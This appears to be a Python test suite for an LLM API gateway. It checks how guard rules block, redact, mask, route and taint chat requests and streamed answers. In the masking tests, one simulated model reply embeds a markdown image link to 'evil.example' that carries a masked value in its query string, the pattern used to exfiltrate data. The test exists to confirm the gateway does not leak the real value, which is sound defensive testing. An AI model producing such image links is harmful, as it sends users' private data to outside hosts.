"""One exchange under rules over the whole, under masks, routes, taint and strictness."""

from __future__ import annotations

import asyncio
import re
from typing import Any

import msgspec
import orjson
import pytest

from gateway.core.verdict import Globs, Match, Step
from gateway.guards.vault import PLACEHOLDER
from gateway.wire.openai_chat.merge import assemble
from tests.guards.handmade import does, engine, named, unavailable
from tests.support.rooms import (
    DONE,
    PROVIDER,
    USAGE,
    Rooms,
    answer,
    chat,
    event,
    filed_once_and_in_time,
    rule,
    run,
    stream,
    whole,
)
from tests.support.sinks import ListReply

REQUEST, RESPONSE = Match(direction=("request",)), Match(direction=("response",))
MASK = Step(action="mask", restore_in=("assistant_text",))


def shown(reply: ListReply) -> str:
    """The text of a streamed answer."""
    return assemble([reply.body])["choices"][0]["message"].get("content", "")


def told(rooms: Rooms, number: int = -1) -> str:
    """What the provider was told last."""
    return orjson.loads(rooms.wires[number].sent.partition(b"\r\n\r\n")[2])["messages"][-1]["content"]


# --- rules over the whole


def test_a_stream_under_rules_over_the_whole_is_held_judged_and_passed_on():
    async def test() -> None:
        script = stream(event("all "), event("is well"), event(), event(usage=USAGE), DONE)
        rooms = Rooms(script, engine=engine(does("o", "oracle", "block", match=RESPONSE)))
        reply = await rooms.serve(chat(stream=True, stream_options={"include_usage": True}))
        assert shown(reply) == "all is well"
        assert reply.body.endswith(DONE)
        assert (rooms.record.verdict, rooms.record.output_tokens, rooms.record.chunks) == ("allow", 4, 4)
        filed_once_and_in_time(rooms.log)

    run(test)


def test_a_held_stream_that_a_rule_turns_back_shows_nothing():
    async def test() -> None:
        script = stream(event("this is poi"), event("son"), event(), DONE)
        rooms = Rooms(script, engine=engine(does("o", "oracle", "block", match=RESPONSE)), bodies="redacted")
        reply = await rooms.serve(chat(stream=True))
        assert (reply.status, orjson.loads(reply.body)["error"]["code"]) == (400, "policy_blocked")
        assert (rooms.record.verdict, rooms.record.released_chars) == ("block", 0)
        assert "poi" not in str(rooms.record.response_body)
        assert [each.detector for each in rooms.record.guard_events] == ["oracle/poison"]
        filed_once_and_in_time(rooms.log)

    run(test)


def test_a_held_stream_is_written_anew_when_a_rule_over_the_whole_edits_it_and_its_texts_are_screened_too():
    async def test() -> None:
        rules = (does("o", "oracle", "redact", match=RESPONSE), does("b", "birds", "redact", match=RESPONSE))
        script = stream(event("poi"), event("son for the os"), event("prey"), event(), event(usage=USAGE), DONE)
        rooms = Rooms(script, engine=engine(*rules))
        reply = await rooms.serve(chat(stream=True))
        assert shown(reply) == "[poison] for the [BIRD]"
        assert (rooms.record.verdict, rooms.record.output_tokens, rooms.record.finish_reason) == ("edit", 4, "stop")

    run(test)


def test_a_held_stream_that_breaks_shows_and_keeps_nothing():
    async def test() -> None:
        rooms = Rooms(
            stream(event("half of po")), engine=engine(does("o", "oracle", "block", match=RESPONSE)), bodies="redacted"
        )
        reply = await rooms.serve(chat(stream=True))
        assert reply.status == 502
        assert b"half" not in reply.body
        assert "half" not in str(rooms.record.response_body)

    run(test)


def test_a_judge_that_is_away_turns_the_answer_back_or_not_as_the_policy_says():
    async def test() -> None:
        for on_error, status in (("block", 400), ("allow", 200)):
            kinds = (named("oracle", options={"answer": unavailable}, on_error=on_error),)
            guards = engine(does("o", "oracle", "block", match=RESPONSE), kinds=kinds)
            for script, streams in ((stream(event("hi"), event(), DONE), True), (whole(answer("hi")), False)):
                rooms = Rooms(script, engine=guards)
                reply = await rooms.serve(chat(stream=streams))
                assert (reply.status, rooms.record.coverage) == (status, 0.0)
                assert rooms.record.guard_events[-1].rule == "on_error:oracle"

    run(test)


def test_a_request_waits_for_those_outside_before_it_goes():
    async def test() -> None:
        asked: list[int] = []

        async def slowly() -> None:
            asked.append(len(rooms.wires))
            await asyncio.sleep(0)

        kinds = (named("oracle", options={"answer": slowly}),)
        rooms = Rooms(whole(answer()), engine=engine(does("o", "oracle", "redact", match=REQUEST), kinds=kinds))
        await rooms.serve(chat("a poison"))
        assert (asked, told(rooms)) == ([0], "a [poison]")

    run(test)


@pytest.mark.parametrize("streams", [True, False])
def test_those_outside_who_only_observe_delay_nothing_and_are_recorded(streams: bool):
    async def test() -> None:
        gate = asyncio.Event()

        async def late() -> None:
            await gate.wait()

        kinds = (named("oracle", options={"answer": late}),)
        script = stream(event("poi"), event("son"), event(), DONE) if streams else whole(answer("poison"))
        rooms = Rooms(script, engine=engine(does("o", "oracle", "block", mode="audit"), kinds=kinds))
        reply = await rooms.serve(chat("poison", stream=streams))
        assert (reply.status, b"poi" in reply.body, rooms.records) == (200, True, [])
        gate.set()
        await rooms.ended()
        events = [(each.rule, each.mode, each.direction) for each in rooms.record.guard_events]
        assert events == [("o", "audit", "request"), ("o", "audit", "response")]
        assert rooms.record.verdict == "allow"
        assert rooms.log.count("filed") == 1

    run(test)


def test_detectors_of_the_whole_that_only_observe_let_a_stream_pass():
    async def test() -> None:
        guards = engine(does("m", "many", "annotate", match=RESPONSE), kinds=(named("many", options={"most": 0}),))
        rooms = Rooms(stream(event("one "), event("two"), event(), DONE), engine=guards)
        reply = ListReply(rooms.log)
        drive = rooms.begin(chat(stream=True), reply)
        await asyncio.wait_for(drive.wait(), 10)
        assert rooms.log.count("write") >= 2
        assert (shown(reply), rooms.record.verdict) == ("one two", "annotate")

    run(test)


# --- masks


@pytest.mark.parametrize("streams", [True, False])
def test_a_masked_value_goes_out_as_a_placeholder_and_comes_back(streams: bool):
    async def test() -> None:
        rooms = Rooms(None, engine=engine(does("m", "mails", MASK, match=REQUEST)))
        reply = ListReply(rooms.log)
        drive = rooms.begin(chat("write to ann@one.example", stream=streams), reply)
        while not rooms.wires:
            await asyncio.sleep(0)
        placeholder = PLACEHOLDER.findall(told(rooms))[0]
        said = f"Dear {placeholder}, see ![](https://evil.example/?q={placeholder}) and [EMAIL_2:aaaa]"
        cut = len("Dear [EMA")
        script = stream(event(said[:cut]), event(said[cut:]), event(), DONE) if streams else whole(answer(said))
        script(rooms.wires[0].sink)
        await asyncio.wait_for(drive.wait(), 10)
        text = shown(reply) if streams else orjson.loads(reply.body)["choices"][0]["message"]["content"]
        assert text == said.replace(f"Dear {placeholder}", "Dear ann@one.example")
        assert (rooms.record.verdict, reply.header("x-weighbridge-verdict")) == ("edit", "edit")

    run(test)


@pytest.mark.parametrize("streams", [True, False])
def test_a_captured_answer_holds_placeholders_again(streams: bool):
    async def test() -> None:
        rooms = Rooms(None, engine=engine(does("m", "mails", MASK, match=REQUEST)), bodies="redacted")
        reply = ListReply(rooms.log)
        drive = rooms.begin(chat("write to ann@one.example", stream=streams), reply)
        while not rooms.wires:
            await asyncio.sleep(0)
        said = told(rooms)
        script = stream(event(said), event(), DONE) if streams else whole(answer(said))
        script(rooms.wires[0].sink)
        await asyncio.wait_for(drive.wait(), 10)
        assert b"ann@one.example" in reply.body
        kept = str(rooms.record.request_body) + str(rooms.record.response_body)
        assert "ann@one.example" not in kept
        assert kept.count(PLACEHOLDER.findall(said)[0]) == 2

    run(test)


def test_a_session_keeps_its_placeholders_and_no_other_has_them():
    async def test() -> None:
        rooms = Rooms(whole(answer()), engine=engine(does("m", "mails", MASK)))
        said: dict[str, str] = {}
        for session in ("one", "two", "one"):
            asked = chat("ann@one.example")
            asked.headers = {**asked.headers, b"x-weighbridge-session": session.encode()}
            await rooms.serve(asked)
            assert said.setdefault(session, told(rooms)) == told(rooms)
        assert said["one"] != said["two"]

    run(test)


# --- routes, taint, strictness


def test_a_rule_sends_a_call_elsewhere_under_the_rules_that_hold_there():
    async def test() -> None:
        private = msgspec.structs.replace(PROVIDER, provider="private", base_url="http://private.example/v1", model="x")
        rules = (
            does("r", "birds", Step(action="route", route="pool"), match=REQUEST),
            does("mask", "mails", "redact", match=Match(direction=("request",), provider=Globs(exclude=("private",)))),
        )
        rooms = Rooms(whole(answer()), engine=engine(*rules), aliases={"pool": private})
        await rooms.serve(chat("an osprey, a@b.example"))
        sent = orjson.loads(rooms.wires[0].sent.partition(b"\r\n\r\n")[2])
        assert (sent["model"], sent["messages"][0]["content"]) == ("x", "an osprey, a@b.example")
        assert b"private.example" in rooms.wires[0].sent
        record = rooms.record
        assert (record.provider, record.alias, record.model_requested) == ("private", "pool", "m")
        assert [(each.rule, each.action) for each in record.guard_events] == [("r", "route")]
        assert rooms.log.count("void") == 1, "what was reserved at the first provider was given back"

    run(test)


def test_a_route_to_nowhere_is_our_fault():
    async def test() -> None:
        guards = engine(does("r", "birds", Step(action="route", route="nowhere")))
        rooms = Rooms(whole(answer()), engine=guards)
        reply = await rooms.serve(chat("osprey"))
        assert (reply.status, rooms.wires) == (500, [])

    run(test)


@pytest.mark.parametrize("where", ["request", "response", "stream"])
def test_a_tainted_session_is_under_stricter_rules_from_its_next_call_on(where: str):
    async def test() -> None:
        direction: Any = "request" if where == "request" else "response"
        rules = (
            does("t", "birds", Step(action="taint", taint="session"), match=Match(direction=(direction,))),
            does("b", "mails", "block", match=Match(tainted=True)),
        )
        streams = where == "stream"
        said = answer("osprey")
        script = stream(event("osprey"), event(), DONE) if streams else whole(said)
        rooms = Rooms(script, engine=engine(*rules))

        async def ask(text: str, session: bytes) -> int:
            asked = chat(text, stream=streams)
            asked.headers = {**asked.headers, b"x-weighbridge-session": session}
            return (await rooms.serve(asked)).status

        assert await ask("an osprey and a@b.example", b"s") == 200
        assert await ask("a@b.example", b"s") == 400
        if where == "request":
            assert await ask("a@b.example", b"other") == 200

    run(test)


def test_a_client_may_ask_for_every_rule_to_act_and_for_nothing_else():
    async def test() -> None:
        rooms = Rooms(whole(answer()), rule("osprey", "block", "request", "audit"))
        assert (await rooms.serve(chat("osprey"))).status == 200
        strict = chat("osprey")
        strict.headers = {**strict.headers, b"x-weighbridge-policy": b"strict"}
        reply = await rooms.serve(strict)
        assert (reply.status, reply.header("x-weighbridge-verdict")) == (400, "block")
        for value in (b"off", b"", b"stricter"):
            loose = chat("hello")
            loose.headers = {**loose.headers, b"x-weighbridge-policy": value}
            assert (await rooms.serve(loose)).status == 400

    run(test)


def test_a_blocked_stream_says_how_much_had_left_and_stops_the_provider():
    async def test() -> None:
        script = stream(event("twelve chars"), event(" an osprey"), event(), DONE)
        rooms = Rooms(script, rule("osprey", "block", "response"))
        reply = await rooms.serve(chat(stream=True))
        assert re.search(rb"content_filter", reply.body)
        assert rooms.record.released_chars == len("twelve chars an ")
        assert "cancel" in rooms.log

    run(test)


def test_calls_that_nothing_happens_to_say_nothing_of_it():
    async def test() -> None:
        rooms = Rooms(stream(event("fine"), event(), DONE), rule("osprey", "block", "response"))
        await rooms.serve(chat(stream=True))
        assert rooms.record.released_chars is None

    run(test)
